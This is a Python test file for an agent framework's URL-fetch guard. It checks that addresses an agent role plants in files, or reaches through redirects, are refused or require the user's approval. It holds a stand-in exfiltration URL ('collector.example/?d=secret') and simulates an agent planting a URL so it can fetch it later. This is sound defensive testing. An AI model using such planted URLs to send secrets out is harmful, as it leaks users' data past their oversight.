"""Which addresses may be fetched: none that a role planted, none that a permission was not for."""

import asyncio
import time
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest

from meetmind.agents import tool_loop
from meetmind.agents.fetchable import may_fetch, was_returned
from meetmind.database import call_outcomes
from meetmind.database.call_outcomes import SessionResults, ToolResultRow
from meetmind.events import ToolFinished, ToolRequested
from meetmind.llm.scripted import ScriptedStep
from meetmind.server.event_loop import EventLoopThread
from tests.discussions.test_permissions import (
    asks,
    begin,
    edit,
    events_of,
    fetch,
    wait_for_call,
    write,
)
from tests.support.net_world import OTHER_PUBLIC_IPV4, PUBLIC_IPV4, NetWorld
from tests.support.room import Room, wait_until
from tests.support.web_pages import html, redirect

PLANTED = "https://collector.example/?d=secret"


def read(path: str) -> ScriptedStep:
    return asks(("Read", {"path": path}))


def verdicts_on_fetches(room: Room, run_id: str) -> list[str]:
    return [event.verdict for event in events_of(room, run_id, ToolRequested, "web_fetch")]


@pytest.mark.parametrize(
    ("path", "spelling"),
    [
        ("plan.md", "./plan.md"),
        ("a/b.md", "a//b.md"),
        ("plän.md", unicodedata.normalize("NFD", "plän.md")),
    ],
)
def test_an_address_that_a_role_put_into_a_file_is_not_known_however_it_spells_the_path(
    room: Room, path: str, spelling: str
) -> None:
    room.max_iterations = 2
    steps = [asks(edit("May", f"see {PLANTED} May", spelling)), read(path), asks(fetch(PLANTED))]
    executor = room.open(steps)
    session_id = room.new_session()
    file = room.workspace / path
    file.parent.mkdir(parents=True)
    file.write_text("Release in May.\n")
    run_id = executor.start_run(room.owner_id, session_id, "Change the plan")
    call_id = wait_for_call(room, run_id, "Edit")
    executor.decide(room.owner_id, run_id, call_id, "approved")
    room.wait_for_end(run_id)
    assert PLANTED in file.read_text()
    assert [event.status for event in events_of(room, run_id, ToolFinished, "Read")] == ["ok"]
    assert verdicts_on_fetches(room, run_id) == ["refused"]


def test_an_address_in_a_file_of_the_person_is_asked_about(room: Room) -> None:
    url = "https://shop.example/refunds"
    run_id = begin(room, read("plan.md"), asks(fetch(url)), plan=f"See {url} first.\n")
    wait_for_call(room, run_id, "web_fetch")
    assert verdicts_on_fetches(room, run_id) == ["asked"]


MAY_HAVE_WRITTEN = (
    "status = 'started'",
    "status = 'failed'",
    "status = 'rejected'",
    "status = 'unsure'",
    "status = 'pending', asked_again = 'unsure'",
)
HAS_NOT_WRITTEN = ("status = 'pending', asked_again = ''", "status = 'refused', asked_again = ''")


def test_a_file_counts_as_written_also_when_the_call_never_came_to_its_end(
    finished_write: Room,
) -> None:
    assert not knows_planted(finished_write)
    for change in MAY_HAVE_WRITTEN:
        assert not knows_planted(finished_write, change), change
    for change in HAS_NOT_WRITTEN:
        assert knows_planted(finished_write, change), change


def knows_planted(room: Room, change: str = "status = 'finished'") -> bool:
    """Whether the planted address may be fetched with the Write in this state, without a result."""
    (session,) = room.discussions.list_sessions(room.owner_id)
    with room.pool.connection() as connection:
        connection.execute(
            f"update tool_executions set {change}, result = null where tool = 'Write'"
        )
    results = call_outcomes.session_results(
        room.pool, owner_id=room.owner_id, session_id=session.id, word="COLLECTOR.example"
    )
    assert len(results.rows) == 1
    return was_returned(results, PLANTED)


@pytest.fixture
def finished_write(room: Room) -> Room:
    """A role wrote a file with an address in it and read it."""
    room.max_iterations = 2
    run_id = begin(room, asks(write("a.md", PLANTED)), read("a.md"))
    call_id = wait_for_call(room, run_id, "Write")
    room.opened[0].decide(room.owner_id, run_id, call_id, "approved")
    room.wait_for_end(run_id)
    return room


def test_results_without_the_host_are_not_even_loaded(finished_write: Room) -> None:
    (session,) = finished_write.discussions.list_sessions(finished_write.owner_id)
    results = call_outcomes.session_results(
        finished_write.pool,
        owner_id=finished_write.owner_id,
        session_id=session.id,
        word="other.example",
    )
    assert (results.rows, results.written_paths) == ([], ["a.md"])


def test_the_search_for_an_address_does_not_hold_up_the_other_discussions() -> None:
    links = " ".join(f"https://shop.example/?page={number}" for number in range(1_000))
    evidence = [{"source": "https://shop.example/all", "content": links, "kind": "page"}]
    row = ToolResultRow(request={}, evidence=evidence)
    context = KnownContext(results=SessionResults(rows=[row] * 40, written_paths=[]))
    began = time.perf_counter()
    may, longest_pause = asyncio.run(_with_a_clock(context, "https://shop.example/"))
    assert not may
    assert longest_pause < (time.perf_counter() - began) / 2


async def _with_a_clock(context: Any, url: str) -> tuple[bool, float]:
    """Whether the address may be fetched, and for how long the event loop did nothing else."""
    pauses = [0.0]
    searching = asyncio.ensure_future(may_fetch(context, url))
    while not searching.done():
        began = time.perf_counter()
        await asyncio.sleep(0)
        pauses.append(time.perf_counter() - began)
    return searching.result(), max(pauses)


class KnownContext:
    """A discussion in which nobody said anything, with these results."""

    def __init__(self, results: SessionResults) -> None:
        self.memory = ""
        self.log = self
        self.ledger = self
        self._results = results

    async def messages(self) -> list[Any]:
        return []

    async def session_results(self, word: str) -> SessionResults:
        return self._results


@pytest.fixture
def world(room: Room) -> Iterator[NetWorld]:
    """Two public sites, the first of which leads to the second one."""
    pages = {
        "shop.example/": redirect("http://other.example/a"),
        "other.example/a": html("Bikes are returned clean.", "text/plain"),
    }
    answers = {"shop.example": [[PUBLIC_IPV4]], "other.example": [[OTHER_PUBLIC_IPV4]]}
    serving = EventLoopThread()
    opened = NetWorld(pages, answers)
    serving.submit(opened.__aenter__()).result()
    room.net = opened.authority()
    yield opened
    room.close()
    serving.submit(opened.__aexit__()).result()
    serving.stop()


def test_a_permission_for_one_host_leads_to_no_other_one_without_a_question(
    room: Room, world: NetWorld
) -> None:
    first, target = "http://shop.example/", "http://other.example/a"
    run_id = begin(room, asks(fetch(first)), asks(fetch(target)), brief=f"Read {first}, please")
    call_id = wait_for_call(room, run_id, "web_fetch")
    executor = room.opened[0]
    executor.decide(room.owner_id, run_id, call_id, "approved", allow_from_now=True)
    (card,) = _waiting_for(room, run_id, target)
    assert world.connections == [(PUBLIC_IPV4, 80)]
    executor.decide(room.owner_id, run_id, card.call_id, "approved")
    room.wait_for_end(run_id)
    finished = events_of(room, run_id, ToolFinished, "web_fetch")
    assert [event.evidence[0].content for event in finished] == [
        f"This page redirects to {target}",
        "Bikes are returned clean.",
    ]
    assert verdicts_on_fetches(room, run_id) == ["asked", "asked"]


def _waiting_for(room: Room, run_id: str, url: str) -> list[Any]:
    wait_until(lambda: bool(_cards_of(room, url)) and room.state(run_id) == "waiting")
    return _cards_of(room, url)


def _cards_of(room: Room, url: str) -> list[Any]:
    pending = room.approvals.pending_calls(room.owner_id)
    return [call for call in pending if call.arguments.get("url") == url]


def _run_without_tools(room: Room) -> str:
    """A run on a brief of 3,000 characters whose server takes no tools."""
    room.max_iterations = 2
    executor = room.open()
    executor._parts.models.client()._habits.tools_refused = True
    brief = "Plan a bike rental. " * 150
    return executor.start_run(room.owner_id, room.new_session(), brief)


def test_without_tools_a_long_brief_is_searched_by_its_beginning(room: Room) -> None:
    run_id = _run_without_tools(room)
    assert room.wait_for_end(run_id).status == "done"
    requested = events_of(room, run_id, ToolRequested, "rag_search")
    assert {(event.verdict, len(event.arguments["query"])) for event in requested} == {
        ("allowed", 2_000)
    }


def test_a_search_of_the_program_that_is_refused_does_not_end_the_run(
    room: Room, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tool_loop, "LONGEST_QUERY", 10_000)
    run_id = _run_without_tools(room)
    assert room.wait_for_end(run_id).status == "done"
    finished = events_of(room, run_id, ToolFinished, "rag_search")
    assert {event.status for event in finished} == {"refused"}
